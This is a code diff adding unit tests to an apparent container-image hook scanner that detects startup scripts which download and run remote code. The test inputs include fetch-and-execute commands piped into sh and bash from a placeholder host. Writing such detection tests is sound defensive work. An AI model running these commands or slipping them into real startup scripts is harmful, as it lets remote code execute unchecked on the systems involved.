@@ -237,6 +237,21 @@ def test_startup_hooks_added_outside_the_image_own_and_fetch_and_execute() -> No
     assert not hooks.remote_exec(b"curl -fsSL https://x/file.tar.gz -o /tmp/f.tgz\n")
 
 
+def test_remote_exec_quotes_exactly_the_line_that_fetches_and_runs() -> None:
+    """The finding shows the one offending line (blanks squeezed, 120 characters at most), whatever surrounds it:
+    lines before and after, no final newline, bytes that are not UTF-8."""
+    assert hooks.remote_exec(b"# one\n# two\ncurl -fsSL  https://x/i.sh | sh\n# last\n") == \
+        "curl -fsSL https://x/i.sh | sh"
+    assert hooks.remote_exec(b"\xff\xfe\ncurl https://x/i.sh | bash") == "curl https://x/i.sh | bash"
+    long = hooks.remote_exec(b"curl https://x/" + b"a" * 200 + b" | sh\n")
+    assert long == "curl https://x/" + "a" * 105 and len(long) == 120
+
+
+def test_a_hook_of_indented_comments_runs_nothing_and_is_no_finding() -> None:
+    hook = {"/etc/profile.d/notes.sh": (b"  # set by the site\n\t# nothing else\n", layer(7, "RUN notes"))}
+    assert hooks.inert(hook["/etc/profile.d/notes.sh"][0]) and hooks.check(hook, {}, {}, {}) == []
+
+
 def test_the_image_is_held_to_its_lock() -> None:
     lock = read_lock(REPO / "releases" / "26.12-cpu.lock.json")
     debs = drift.expected_debian(lock)
